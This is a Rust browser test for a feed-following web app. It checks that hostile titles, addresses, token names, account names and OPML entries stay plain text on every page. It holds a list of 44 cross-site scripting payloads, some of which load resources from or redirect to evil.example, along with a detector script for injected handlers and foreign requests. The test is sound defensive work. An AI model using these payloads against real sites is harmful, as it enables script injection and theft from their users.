//! What others write is text: titles, addresses, names, filters, reasons.

use serde_json::json;

use crate::browser::Browser;
use crate::folder::Folder;
use crate::stage::{at, escaped, page};
use crate::support::follower::Follower;

/// Each of them does something if it is taken for more than text.
const PAYLOADS: [&str; 44] = [
    "<script>pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</title><script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=//evil.example/x.png>",
    "\"><img src=x onerror=pwned=1>",
    "'><img src=x onerror=pwned=1>",
    "\" autofocus onfocus=pwned=1 x=\"",
    "' onmouseover='pwned=1",
    "` onload=`pwned=1",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwned=1>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<math href=javascript:pwned=1>x</math>",
    "<iframe src=javascript:pwned=1></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<object data=javascript:pwned=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwned=1\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<template><script>pwned=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    "<form action=//evil.example/><button>Click</button></form>",
    "<details open ontoggle=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<body onload=pwned=1>",
    "<!--><img src=x onerror=pwned=1>-->",
    "<![CDATA[><script>pwned=1</script>]]>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}pwned=1\u{ff1c}/script\u{ff1e}",
    "\u{202e}<script>pwned=1</script>\u{200b}\u{feff}",
    "javascript:pwned=1",
    "java\tscript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "{{constructor.constructor('pwned=1')()}}",
    "${pwned=1}#{pwned=1}<%= pwned=1 %>",
    "x\" style=\"position:fixed;inset:0;background:url(//evil.example/x)",
];

/// In every page, before anything of it runs.
const HOOK: &str = "
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
    for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => { window.pwned = name; };";

/// What is wrong with the page that is open.
const WRONG: &str = "
    const wrong = [];
    if (window.pwned !== undefined) wrong.push(`a script ran: ${window.pwned}`);
    for (const one of window.refused) wrong.push(`the policy had to refuse ${one}`);
    for (const { name } of performance.getEntriesByType('resource'))
      if (new URL(name).origin !== location.origin) wrong.push(`${name} was asked for`);
    const is = (one, names) => names.some((name) => /^\\s*(javascript|data|vbscript):/i.test((one.getAttribute(name) || '').replace(/[\\s\\0]/g, '')));
    for (const one of document.querySelectorAll('*')) {
      if (is(one, ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'])) wrong.push(`a link: ${one.outerHTML.slice(0, 120)}`);
      for (const { name } of one.attributes)
        if (name.startsWith('on') || name === 'style' || name === 'srcdoc') wrong.push(`${name}: ${one.outerHTML.slice(0, 120)}`);
      if (/^(iframe|object|embed|base|math|video|template|style|frame|applet|img|use|animate)$/.test(one.localName)) wrong.push(one.outerHTML.slice(0, 120));
    }
    if (document.scripts.length !== 1) wrong.push(`${document.scripts.length} scripts`);
    if (document.querySelectorAll('meta[http-equiv]').length) wrong.push('a refresh');
    if (document.querySelectorAll('link[rel~=stylesheet]').length !== 1) wrong.push('another style sheet');
    for (const form of document.forms)
      if (form.method !== 'dialog' && new URL(form.getAttribute('action'), location.href).origin !== location.origin) wrong.push('a form leads elsewhere');
    for (const id of ['main', 'spoken']) if (!document.getElementById(id)) wrong.push(`no ${id}`);
    return wrong;";

struct Checked<'b> {
    browser: &'b Browser,
    wrong: Vec<String>,
    pages: usize,
}

impl Checked<'_> {
    fn open(&mut self, url: &str) {
        self.browser.open(url);
        self.look();
    }

    fn look(&mut self) {
        self.pages += 1;
        let place = self.browser.at();
        if self.browser.has_alert() {
            self.wrong.push(format!("{place}: a window is open"));
        }
        let told = self.browser.script(WRONG);
        for one in told.as_array().unwrap() {
            self.wrong.push(format!("{place}: {one}"));
        }
    }
}

/// A source whose collections and pages are called as the payloads are.
fn source(site: &Folder) {
    let base = site.url();
    let head = "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\" xmlns:rs=\"http://www.openarchives.org/rs/terms/\">";
    let about = |title: &str| {
        let title = escaped(title);
        format!(
            "<metadata xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>{title}</dc:title><dc:description>{title}</dc:description><dc:creator>{title}</dc:creator></metadata>"
        )
    };
    let mut sets = String::new();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let set = format!("{base}{number}/");
        sets.push_str(&format!(
            "<url><loc>{set}capabilitylist.xml</loc><rs:md capability=\"capabilitylist\"/><rs:ln rel=\"describes\" href=\"{set}\"/></url>"
        ));
        site.put(&format!("{number}/about.xml"), &about(payload));
        site.put(&format!("{number}/capabilitylist.xml"), &format!(
            "{head}<rs:ln rel=\"up\" href=\"{base}.well-known/resourcesync\"/><rs:ln rel=\"describes\" href=\"{set}\"/><rs:ln rel=\"describedby\" href=\"{set}about.xml\"/><rs:md capability=\"capabilitylist\"/><url><loc>{set}changelist.xml</loc><rs:md capability=\"changelist\"/></url></urlset>"
        ));
        let change = |uri: &str, second: usize| {
            let uri = escaped(uri);
            format!(
                "<url><loc>{uri}</loc><rs:md change=\"updated\" datetime=\"2026-01-01T00:00:{second:02}Z\"/></url>"
            )
        };
        let mut changes = String::new();
        // The first has all of them, as titles and as addresses; the others have one each.
        if number == 0 {
            for (second, title) in PAYLOADS.iter().enumerate() {
                site.put(&format!("0/{second}.html"), &page(title));
                changes.push_str(&change(&format!("{set}{second}.html"), second));
                changes.push_str(&change(&format!("{set}?{title}"), second));
                changes.push_str(&change(title, second));
            }
        } else {
            site.put(&format!("{number}/index.html"), &page(payload));
            changes.push_str(&change(&set, number));
        }
        site.put(&format!("{number}/changelist.xml"), &format!(
            "{head}<rs:ln rel=\"up\" href=\"{set}capabilitylist.xml\"/><rs:md capability=\"changelist\" from=\"2025-01-01T00:00:00Z\"/>{changes}</urlset>"
        ));
    }
    site.put("index.html", &page(PAYLOADS[0]));
    site.put("about.xml", &about(&PAYLOADS[..4].concat()));
    site.put(".well-known/resourcesync", &format!(
        "{head}<rs:ln rel=\"describedby\" href=\"{base}about.xml\"/><rs:md capability=\"description\"/>{sets}</urlset>"
    ));
}

/// Whoever finds nothing has to be able to: each of these is found.
fn sees_what_is_wrong(browser: &Browser, site: &Folder) {
    let around = "<link rel=stylesheet href=/x><script></script><p id=main><p id=spoken>";
    for bad in [
        PAYLOADS[0],
        PAYLOADS[4],
        PAYLOADS[11],
        PAYLOADS[17],
        "<p style=color:red>",
        "<a href=' javascript:x'>",
        "<a onclick=x>",
    ] {
        site.put("bad.html", &format!("<!doctype html>{around}{bad}>"));
        browser.open(&format!("{}bad.html", site.url()));
        let told = browser.script(WRONG);
        assert!(told.as_array().is_some_and(|told| !told.is_empty()), "{bad} is not found");
    }
    site.put("good.html", &format!("<!doctype html>{around}<a href=/>x</a>"));
    browser.open(&format!("{}good.html", site.url()));
    assert_eq!(browser.script(WRONG), json!([]));
}

fn encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[test]
fn what_others_write_stays_text() {
    let Some(browser) = Browser::start() else { return };
    browser.before_all(HOOK);
    let place = tempfile::tempdir().unwrap();
    let site = Folder::serve(place.path());
    source(&site);
    let follower = Follower::default();
    let server = follower.serve(&["--no-poll"]);
    sees_what_is_wrong(&browser, &site);
    let mut checked = Checked { browser: &browser, wrong: Vec::new(), pages: 0 };

    // Before it is followed, and from then on.
    browser.open(&at(&server, "/add"));
    browser.fill("Address", &site.url());
    browser.click("Look at it");
    browser.see("How good its documents are");
    browser.see("<script>pwned=1</script>");
    checked.look();
    follower.json(&["follow", "--titles", "100", "--diff", &site.url()]);
    follower.json(&["poll"]);
    let told = follower.site();
    let home = format!("/sites/{}", told["key"].as_str().unwrap());
    let collections: Vec<String> = told["collections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| format!("/collections/{}", one["key"].as_str().unwrap()))
        .collect();
    assert_eq!(collections.len(), PAYLOADS.len());
    for path in ["/", "/search", &home, &format!("{home}/remove"), "/subscriptions", "/log"] {
        checked.open(&at(&server, path));
    }
    browser.open(&at(&server, &home));
    browser.see("<img src=x onerror=pwned=1>");
    let most = collections.iter().max_by_key(|path| server.get(path).body.len()).unwrap();
    checked.open(&at(&server, &format!("{most}/batches/1")));
    browser.see("</title><script>pwned=1</script>");
    browser.see("<svg onload=pwned=1>");
    for path in collections.iter().step_by(4) {
        checked.open(&at(&server, path));
    }

    // Typed into fields and addresses.
    for some in PAYLOADS.chunks(3) {
        let mut query = String::from("?kind=");
        for (field, payload) in ["text", "path", "day"].into_iter().zip(some) {
            query.push_str(&format!("&{field}={}", encoded(payload)));
        }
        checked.open(&at(&server, &format!("/search{query}")));
    }
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let text = encoded(payload);
        let path = match number % 10 {
            0 => format!("{most}?text={text}&path={text}&day={text}&kind={text}&year={text}"),
            1 => format!("/?text={text}&state={text}"),
            2 => format!("/add?url={text}"),
            3 => format!("/login?next={text}&said={text}"),
            4 => format!("/{}", text.replace('+', "%20")),
            5 => format!("/sites/{}", text.replace('+', "%20")),
            6 => format!("/check?url={text}&spec={text}&profile={text}&severity={text}"),
            7 => format!("/explore?url={text}"),
            8 => format!("/document?url={text}&from={text}"),
            _ => format!("/robots?url={text}&agent={text}"),
        };
        checked.open(&at(&server, &path));
    }

    // Names of tokens, and what is said of names of accounts.
    for payload in PAYLOADS {
        let made = server.post("/api/tokens", &json!({ "name": payload, "scope": "read" }));
        assert_eq!(made.status, 201, "{payload}: {}", made.text());
    }
    checked.open(&at(&server, "/tokens"));
    browser.see("<img src=x onerror=pwned=1>");
    browser.fill("Name", PAYLOADS[6]);
    browser.click("Make a token");
    browser.see("already");
    checked.look();
    browser.open(&at(&server, "/setup"));
    browser.fill("Your name here", PAYLOADS[6]);
    browser.fill("Password", "a rather long sentence");
    browser.fill("The password once more", "a rather long sentence");
    browser.click("Make the account");
    browser.see("A name has 1 to 60 letters");
    checked.look();
    browser.open(&at(&server, "/login"));
    browser.fill("Name", PAYLOADS[6]);
    browser.fill("Password", "whatever it is");
    browser.click("Sign in");
    browser.see("The name or the password is wrong.");
    checked.look();

    // A list of subscriptions whose own name is one, too.
    let outlines: String = PAYLOADS
        .iter()
        .map(|one| {
            format!(
                "<outline text=\"{0}\" title=\"{0}\" type=\"rss\" xmlUrl=\"{0}\"/>",
                escaped(one).replace('\t', "&#9;")
            )
        })
        .collect();
    let list = place.path().join("<img src=x onerror=pwned=1>.opml");
    std::fs::write(&list, format!("<opml version=\"2.0\"><body>{outlines}</body></opml>")).unwrap();
    browser.open(&at(&server, "/subscriptions"));
    browser.attach("OPML file", &list);
    browser.click("Follow all of it");
    browser.see("could not be followed");
    browser.see("<img src=x onerror=pwned=1>");
    checked.look();

    // Reasons why it fails.
    for (number, payload) in PAYLOADS.iter().enumerate() {
        site.put(
            &format!("{number}/changelist.xml"),
            &format!("<html>{}<svg onload=pwned=1>", payload),
        );
    }
    follower.run(&["poll"]);
    for path in [&home[..], "/", &collections[0], &collections[4], "/log"] {
        checked.open(&at(&server, path));
    }
    let Checked { wrong, pages, .. } = checked;
    assert!(pages > 80, "{pages}");
    assert!(
        wrong.is_empty(),
        "{} things are wrong on {pages} pages:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}
